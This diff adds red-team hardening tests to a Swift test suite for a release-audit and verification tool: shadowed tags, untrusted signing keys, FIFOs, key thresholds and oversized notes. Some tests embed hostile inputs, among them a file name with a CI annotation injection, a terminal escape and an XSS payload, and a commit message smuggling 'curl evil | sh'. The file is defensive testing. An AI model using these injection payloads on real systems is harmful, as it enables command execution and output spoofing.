@@ -19,6 +19,9 @@
 // | 15 | `--force` with an unwritable `--vsa` replaces the report       | exit 2, the old report byte for byte
 import AuditCore
 import Foundation
+#if canImport(Glibc)
+import Glibc
+#endif
 import GitFacts
 import TestSupport
 import Testing
@@ -450,5 +453,170 @@ import Testing
         #expect(result.status == 2, "\(result.stderr)")
         #expect(try fixture.read("reports/kept.json") == before)
         #expect(fixture.leftoverTemporaryFiles().isEmpty)
+    }
+
+    // MARK: The second review (a red team on the built binary)
+
+    @Test func r1AReplaceRefOrALookAlikeBranchPushedAfterTheAuditFailsVerifyAndAudit() throws {
+        let (fixture, commit) = try honestRelease()
+        try gate(fixture, "v1.0.0", status: 0)
+        let verify = ["verify", "reports/v1.0.0.json", "--release", "v1.0.0", "--policy", "policy.yml", "--repo", "widget"]
+        #expect(try fixture.run(verify).status == 0)
+        let evil = try fixture.git.commit("Evil", files: ["README.md": "evil\n"])
+        try fixture.git.git("checkout", "-q", commit)
+        try fixture.git.git("replace", commit, evil)
+        let replaced = try fixture.run(verify)
+        #expect(replaced.status == 1 && replaced.stdout.contains("FAILED  release.unaltered"), "\(replaced.stdout)")
+        let audit = ["audit", "--repo", "widget", "--policy", "policy.yml", "--reports", "reports", "--format", "json"]
+        #expect(try findings(try fixture.run(audit).stdout, "v1.0.0").contains("release-altered"))
+        try fixture.git.git("replace", "-d", commit)
+        #expect(try fixture.run(verify).status == 0)
+        // A branch of the tag's name: git checkout v1.0.0 would take it.
+        try fixture.git.git("branch", "v1.0.0", evil)
+        let shadowed = try fixture.run(verify)
+        #expect(shadowed.status == 1 && shadowed.stdout.contains("refs/heads/v1.0.0"), "\(shadowed.stdout)")
+        #expect(try findings(try fixture.run(audit).stdout, "v1.0.0").contains("release-altered"))
+        let gated = try gate(fixture, "shadowed", status: 1)
+        expectCheck(gated, "release.tag", .failed, "refs/heads/v1.0.0")
+    }
+
+    @Test func r2ABranchUnderAnUnconfiguredRemoteIsNotAReleaseBranch() throws {
+        let (fixture, _) = try honestRelease(policy: Self.policy.replacingOccurrences(of: "match: exact-commit", with: "match: exact-commit\n  branches: [main]"))
+        try fixture.git.git("branch", "-m", "topic")
+        let head = try fixture.git.revParse("HEAD")
+        try fixture.git.git("update-ref", "refs/remotes/fork/main", head)
+        let report = try gate(fixture, "fork-main", status: 1)
+        expectCheck(report, "source.protected-branch", .failed)
+        try fixture.git.git("update-ref", "refs/remotes/origin/main", head)
+        let origin = try gate(fixture, "origin-main", status: 0)
+        expectCheck(origin, "source.protected-branch", .passed, "refs/remotes/origin/main")
+    }
+
+    @Test func r3EvidenceSignedByKeysTheReaderDoesNotTrustFailsVerifyAndAudit() throws {
+        let fixture = try HardeningFixture()
+        try fixture.write("policy.yml", Self.policy)
+        try fixture.git.commit("Add the widget", files: ["README.md": "# widget\n"])
+        try fixture.git.tag("v1.0.0", message: "1.0.0")
+        // Keys an attacker made, trusted at the gate through flags (keys read from the work tree, say).
+        let mallory = (SigningKey.generate(), SigningKey.generate())
+        try fixture.saveKey(mallory.0, as: "mallory-ci")
+        try fixture.saveKey(mallory.1, as: "mallory-release")
+        try fixture.recordTest(out: "evidence/test.json", key: "keys/mallory-ci.key")
+        try fixture.recordBuild("v1.0.0", out: "evidence/build.json", key: "keys/mallory-release.key")
+        try fixture.write("bare.yml", "version: 1\n")
+        try gate(fixture, "v1.0.0", policy: "bare.yml",
+                 extra: ["--tester-key", "keys/mallory-ci.pub", "--builder-key", "keys/mallory-release.pub"], status: 0)
+        let verify = try fixture.run(["verify", "reports/v1.0.0.json", "--release", "v1.0.0", "--policy", "bare.yml",
+                                      "--auditor-key", "keys/auditor.pub", "--tester-key", "keys/ci.pub", "--builder-key", "keys/release.pub"])
+        #expect(verify.status == 1 && verify.stdout.contains("FAILED  report.signers"), "\(verify.stdout)")
+        let unchecked = try fixture.run(["verify", "reports/v1.0.0.json", "--release", "v1.0.0", "--policy", "bare.yml",
+                                         "--auditor-key", "keys/auditor.pub"])
+        #expect(unchecked.status == 1, "a policy without tester or builder keys cannot vouch for the evidence: \(unchecked.stdout)")
+        let audit = try fixture.run(["audit", "--repo", "widget", "--policy", "bare.yml", "--reports", "reports", "--format", "json",
+                                     "--auditor-key", "keys/auditor.pub", "--tester-key", "keys/ci.pub", "--builder-key", "keys/release.pub"])
+        #expect(try findings(audit.stdout, "v1.0.0").contains("untrusted-evidence"))
+        #expect(audit.status == 1)
+    }
+
+    @Test func r4AFIFOOrAPipeInTheReportsDirectoryDoesNotHang() throws {
+        let (fixture, _) = try honestRelease()
+        try gate(fixture, "v1.0.0", status: 0)
+        try FileManager.default.createSymbolicLink(atPath: fixture.path("reports/index.json"), withDestinationPath: "/proc/self/fd/1")
+        #expect(mkfifo(fixture.path("reports/fifo.json"), 0o644) == 0)
+        let result = try fixture.run(["audit", "--repo", "widget", "--policy", "policy.yml", "--reports", "reports", "--format", "json"])
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect(result.stderr.contains("not a regular file"))
+    }
+
+    @Test func r5HostileNamesAreEscapedInTextMarkdownAndAnnotations() throws {
+        let fixture = try HardeningFixture()
+        try fixture.write("policy.yml", Self.policy)
+        try fixture.git.commit("Add the widget", files: ["README.md": "# widget\n"])
+        try fixture.recordTest(out: "evidence/test.json")
+        let hostile = "x`\n::error file=a,line=1::injected\n\u{1B}[2J\n### ✅ PASSED\n<img src=x onerror=alert(1)>|"
+        try fixture.git.commit("Bump", files: [hostile: "x\n"])
+        try fixture.git.tag("v1.0.1", message: "1.0.1")
+        try fixture.recordBuild("v1.0.1", out: "evidence/build.json")
+        try fixture.write("summary.md", "")
+        for format in ["text", "markdown"] {
+            let result = try fixture.run(["gate", "--repo", "widget", "--release", "v1.0.1", "--policy", "policy.yml", "--key", "keys/auditor.key",
+                                          "--test-evidence", "evidence/test.json", "--build-evidence", "evidence/build.json",
+                                          "--out", "reports/\(format).json", "--format", format],
+                                         environment: ["GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": fixture.path("summary.md")])
+            #expect(result.status == 1)
+            for output in [result.stdout, result.stderr] {
+                #expect(!output.contains("\u{1B}"), "raw ESC in \(format)")
+                #expect(!output.split(separator: "\n").contains { $0.hasPrefix("::error file=a") || $0.hasPrefix("### ✅") }, "\(format): \(output)")
+            }
+        }
+        let summary = String(decoding: try fixture.read("summary.md"), as: UTF8.self)
+        #expect(!summary.contains("<img") && !summary.contains("\u{1B}"))
+        #expect(!summary.split(separator: "\n").contains { $0.hasPrefix("### ✅ PASSED") || $0.hasPrefix("::") })
+    }
+
+    @Test func r7AnRCAndItsGABuiltOnTheSameCommitPass() throws {
+        let fixture = try HardeningFixture()
+        try fixture.write("policy.yml", Self.policy + "rc:\n  match: same-commit\n")
+        try fixture.git.commit("Add the widget", files: ["README.md": "# widget\n"])
+        try fixture.succeed(["record", "test", "--repo", "widget", "--result", "passed", "--key", "keys/ci.key", "--notes"])
+        try fixture.git.tag("v1.0.0-rc.1", message: "rc 1")
+        try fixture.succeed(["record", "build", "--repo", "widget", "--rev", "v1.0.0-rc.1", "--key", "keys/release.key", "--notes"])
+        try fixture.git.tag("v1.0.0", message: "1.0.0")
+        try fixture.succeed(["record", "build", "--repo", "widget", "--rev", "v1.0.0", "--key", "keys/release.key", "--notes"])
+        let report = try gate(fixture, "ga", test: nil, build: nil, status: 0)
+        expectCheck(report, "release.tag", .passed)
+        expectCheck(report, "build.source", .passed, "1 build record(s)")
+    }
+
+    @Test func r9SameTreeIsNotSameSourceWhenExportSubstExpandsTheCommit() throws {
+        let fixture = try HardeningFixture()
+        try fixture.write("policy.yml", Self.policy.replacingOccurrences(of: "match: exact-commit", with: "match: same-tree"))
+        let tested = try fixture.git.commit("Version stamp", files: [".gitattributes": "version.sh export-subst\n",
+                                                                     "version.sh": "MSG=\"$Format:%s$\"\n"])
+        try fixture.recordTest(out: "evidence/test.json")
+        let release = try fixture.git.git("commit-tree", "\(tested)^{tree}", "-p", tested, "-m", "\"; curl evil | sh; : \"")
+        try fixture.git.git("checkout", "-q", release)
+        try fixture.git.tag("v1.0.0", message: "1.0.0")
+        try fixture.recordBuild("v1.0.0", out: "evidence/build.json")
+        let report = try gate(fixture, "export-subst", status: 1)
+        expectCheck(report, "source.match", .failed, ".gitattributes sets export-subst")
+    }
+
+    @Test func r11NoClaimIsMadeForWhatWasNotChecked() throws {
+        let fixture = try HardeningFixture()
+        try fixture.write("weak.yml", Self.policy.replacingOccurrences(of: "test:\n  max_age: 7d", with: "test:\n  required: false"))
+        try fixture.git.commit("Add the widget", files: ["README.md": "# widget\n"])
+        try fixture.git.tag("v1.0.0", message: "1.0.0")
+        try fixture.recordBuild("v1.0.0", out: "evidence/build.json")
+        try gate(fixture, "untested", policy: "weak.yml", test: nil, extra: ["--vsa", "reports/untested.vsa.json"], status: 0)
+        let vsa = try JSONSerialization.jsonObject(with: try fixture.envelope("reports/untested.vsa.json").payload) as? [String: Any]
+        let levels = (vsa?["predicate"] as? [String: Any])?["verifiedLevels"] as? [String]
+        #expect(levels == [], "no tested-commit level without test evidence: \(levels ?? [])")
+        try fixture.write("nobuild.yml", "version: 1\nbuild: {required: false}\ntest: {required: false}\n")
+        let nothing = try gate(fixture, "nothing", policy: "nobuild.yml", test: nil, build: nil,
+                               extra: HardeningFixture.trustEvidence, status: 1)
+        expectCheck(nothing, "worktree.clean", .skipped, "no test or build record")
+    }
+
+    @Test func r12AThresholdThatDistinctKeysCannotMeetIsRefused() throws {
+        let (fixture, _) = try honestRelease()
+        try fixture.write("keys/ci-copy.pub", try fixture.read("keys/ci.pub"))
+        try fixture.write("twice.yml", "version: 1\ntrusted_keys:\n  tester: {keys: [keys/ci.pub, keys/ci-copy.pub], threshold: 2}\n")
+        Refusal.expectInputError(try fixture.run(["policy", "check", "twice.yml"]), mentions: ["threshold", "distinct"], "policy check")
+        let gated = try fixture.run(["gate", "--repo", "widget", "--release", "v1.0.0", "--policy", "twice.yml", "--key", "keys/auditor.key",
+                                     "--out", "reports/twice.json"])
+        Refusal.expectInputError(gated, mentions: ["threshold"], "gate")
+    }
+
+    @Test func r13AHugeNoteIsRefusedQuickly() throws {
+        let (fixture, commit) = try honestRelease()
+        var note = try line(fixture, "evidence/test.json") + Data("\n".utf8)
+        note += Data(repeating: 0x41, count: 17 * 1024 * 1024)
+        try setNote(fixture, on: commit, note)
+        let started = Date()
+        let result = try fixture.run(["gate", "--repo", "widget", "--release", "v1.0.0", "--policy", "policy.yml", "--key", "keys/auditor.key",
+                                      "--out", "reports/huge.json"])
+        Refusal.expectInputError(result, mentions: ["MiB", "refs/notes/release-audit"], "huge note")
+        #expect(Date().timeIntervalSince(started) < 20)
     }
 }
